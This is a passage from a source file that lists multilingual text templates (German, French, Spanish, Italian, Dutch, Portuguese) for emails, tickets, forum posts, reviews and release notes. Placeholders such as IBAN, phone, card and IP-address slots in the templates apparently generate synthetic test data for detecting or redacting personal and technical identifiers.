     "Konto: {IBAN}. Für Rückfragen erreichen Sie mich unter {PHONE}.\n\nMit freundlichen Grüßen\n{NAME}"),
    ("ticket", "de",
     "Störung {REF}: Drucker im 2. OG ({IPPRIV}) nicht erreichbar. Firmware {VER4}, laut Hersteller Fix in "
     "{VER4}. Ansprechpartner: {NAME}, Tel. {PHONE}, {EMAIL}"),
    ("newsletter", "de",
     "Elternbrief der Grundschule am Park, {DATE}\n\nLiebe Eltern, das Sekretariat ist ab sofort unter {PHONE} "
     "erreichbar. Das Geld für die Klassenfahrt ({PRICE}) bitte auf {IBAN} überweisen. Kontakt: {NAME}, {EMAIL}"),
    ("chat", "de",
     "{FIRST}: kannst du mal schauen, der Server {IPPRIV} antwortet nicht\n{FIRST}: ping geht, aber SSH nicht. "
     "Agent {VER4} läuft\n{FIRST}: ok, starte neu"),
    ("review", "de",
     "Leider nur 2 Sterne. Der Router (Firmware {VER4}) verliert jede Nacht die Verbindung. Der Support meinte, "
     "ich soll {IPLAN} aufrufen und zurücksetzen. Bestellnummer {ORDER}."),
    ("log", "de",
     "{TS} Anmeldung fehlgeschlagen für Benutzer {USER} von {IPPUB}\n{TS} IP-Adresse {IPPUB} gesperrt "
     "(Regel {CTRL})\n{TS} Paket aktualisiert auf Version {VER4}"),
    ("release_notes", "de",
     "Versionshinweise {VER4} vom {DATE}\n- Sicherheitsupdate für {CVE}\n- Neue Mindestversion {VER4}\n"
     "- Kapitel {SECT} der Anleitung überarbeitet\nPreis des Wartungsvertrags: {PRICE}"),
    ("rental", "de",
     "Mietbewerbung\nName: {NAME}\nTelefon: {PHONE}\nE-Mail: {EMAIL}\nWunschtermin Besichtigung: {DATE}\n"
     "Nettoeinkommen: {PRICE}"),
    # ------------------------------------------------------------ French
    ("forum", "fr",
     "Bonjour, ma Livebox en {VER3} n'attribue plus d'adresse : mon PC reste en {IPLO} au lieu de {IPLAN}. "
     "J'ai mis les DNS {IPW} et {IPW}. Le répéteur est en firmware {VER4}. Merci d'avance !"),
    ("email", "fr",
     "Bonjour {FIRST},\n\nVoici mon RIB pour le remboursement : IBAN {IBAN}. Vous pouvez me joindre au {PHONE} "
     "ou par mail à {EMAIL}.\n\nCordialement,\n{NAME}"),
    ("newsletter", "fr",
     "Lettre aux parents - {DATE}\nLa sortie à {CITY} coûtera {PRICE}. Contact : {NAME}, {PHONE}. "
     "Règlement par virement sur {IBAN}."),
    ("ticket", "fr",
     "Incident {REF} : le serveur {IPPRIV} ne répond plus depuis {TIME}. Version de l'agent {VER4}, "
     "règle {CTRL} du référentiel. Signalé par {NAME} ({EMAIL})."),
    ("review", "fr",
     "Très déçu. Commande {ORDER}, livrée le {DATE} avec un firmware {VER4} buggé. Le SAV m'a dit de me connecter "
     "sur {IPLAN}. Toujours rien."),
    ("travel", "fr",
     "Confirmation de réservation {REF}\nVoyageur : {NAME}\nTéléphone : {PHONE}\nCarte de garantie : {CARD}\n"
     "Arrivée le {DATE}"),
    ("release_notes", "fr",
     "Notes de version {VER4} ({DATE})\n- Correction de {CVE}\n- Chapitre {SECT} mis à jour\n"
     "- Version minimale requise : {VER4}"),
    # ------------------------------------------------------------ Spanish
    ("forum", "es",
     "Hola, tengo un router de Movistar con firmware {VER4} y desde ayer mi IP pública es {IPCG}. "
     "Antes era {IPPUB}. El router está en {IPLAN}. ¿Es CG-NAT?"),
    ("email", "es",
     "Estimado {NAME}:\n\nLe envío mis datos para la domiciliación: IBAN {IBAN}. Mi teléfono es {PHONE}.\n\n"
     "Un saludo,\n{NAME}"),
    ("chat", "es",
     "{FIRST}: el servidor de {CITY} ({IPPRIV}) no contesta\n{FIRST}: reinicio el agente {VER4}, dame {NUM} min\n"
     "{FIRST}: ya está"),
    ("rental", "es",
     "Hola {FIRST}, el piso de {ROOMS} habitaciones en {CITY} sigue disponible. Alquiler {PRICE} al mes. "
     "Para reservarlo, transfiere la fianza a {IBAN}. Llámame al {PHONE}. {NAME}"),
    ("review", "es",
     "Pedido {ORDER}: el cargador llegó el {DATE}, funciona bien. Precio {PRICE}. La actualización {VER4} "
     "del firmware tardó un poco."),
    ("payment", "es",
     "Pago con tarjeta {CARD} a nombre de {NAME}. Importe {PRICE}. Referencia {REF}."),
    # ------------------------------------------------------------ Italian
    ("forum", "it",
     "Ciao a tutti, il mio modem TIM con firmware {VER4} assegna {IPLAN} ma la stampante resta su {IPLO}. "
     "DNS impostati: {IPW}. Qualcuno ha risolto?"),
    ("email", "it",
     "Gentile {NAME},\n\nle confermo il bonifico di {PRICE} sul conto {IBAN}. Per qualsiasi dubbio mi chiami "
     "al {PHONE}.\n\nCordiali saluti"),
    ("ticket", "it",
     "Segnalazione {REF}: il NAS {IPPRIV} non è raggiungibile dopo l'aggiornamento a {VER4}. Referente {NAME}, "
     "{EMAIL}."),
    ("travel", "it",
     "Prenotazione {REF} confermata. Ospite: {NAME}, tel. {PHONE}. Carta a garanzia {CARD}. Check-in {DATE}."),
    ("newsletter", "it",
     "Avviso ai genitori: la gita a {CITY} costa {PRICE}. Versare la quota sul conto {IBAN} entro il {DATE}. "
     "Referente {NAME}, {PHONE}."),
    ("release_notes", "it",
     "Note di rilascio {VER4}: corretto {CVE}, aggiornato il capitolo {SECT}, versione minima {VER4}."),
    # ------------------------------------------------------------ Dutch
    ("forum", "nl",
     "Hoi, sinds de update naar {VER4} geeft mijn Ziggo-modem mijn pc {IPLAN} maar de NAS blijft op {IPLAN}. "
     "DNS staat op {IPW}. Iemand ervaring mee?"),
    ("email", "nl",
     "Beste {FIRST},\n\nDe borg van {PRICE} graag overmaken naar {IBAN} t.n.v. {NAME}. Bel gerust: {PHONE}.\n\n"
     "Met vriendelijke groet"),
    ("ticket", "nl",
     "Melding {REF}: printer {IPPRIV} offline, firmware {VER4}. Contactpersoon {NAME}, {EMAIL}, {PHONE}."),
    ("chat", "nl",
     "{FIRST}: wie zit er op {IPPRIV}? iemand scant poort {PORT}\n{FIRST}: dat is de nieuwe scanner, versie {VER4}\n"
     "{FIRST}: ah oke"),
    ("review", "nl",
     "Bestelling {ORDER} kwam op {DATE}. Werkt prima na update naar {VER4}. Prijs {PRICE}."),
    ("rental", "nl",
     "Reactie op woning in {CITY}: ik ben {NAME}, bereikbaar op {PHONE} of {EMAIL}. Huur {PRICE} is akkoord."),
    # ------------------------------------------------------------ Portuguese (Brazil)
    ("forum", "pt",
     "Pessoal, meu roteador da Vivo no firmware {VER4} mostra IP WAN {IPCG}, mas o site diz {IPPUB}. "
     "O roteador fica em {IPLAN}. É CGNAT?"),
    ("email", "pt",
     "Olá {FIRST},\n\nSegue meu contato: {PHONE}, {EMAIL}. O pagamento pode ser feito no cartão {CARD}.\n\n"
     "Abraços,\n{NAME}"),
    ("ticket", "pt",
     "Chamado {REF}: servidor {IPPRIV} fora do ar desde {TIME}. Agente na versão {VER4}. Responsável {NAME}."),
    ("review", "pt",
     "Pedido {ORDER} chegou em {DATE}. Preço {PRICE}. Depois da atualização {VER4} a câmera parou de "
     "aparecer em {IPLAN}."),
    ("payment", "pt",
     "Transferência internacional para {NAME}, IBAN {IBAN}, valor {PRICE}. Dúvidas: {PHONE}."),
    ("release_notes", "pt",
     "Notas da versão {VER4} ({DATE}): correção de {CVE}, capítulo {SECT} revisado, versão mínima {VER4}."),
]
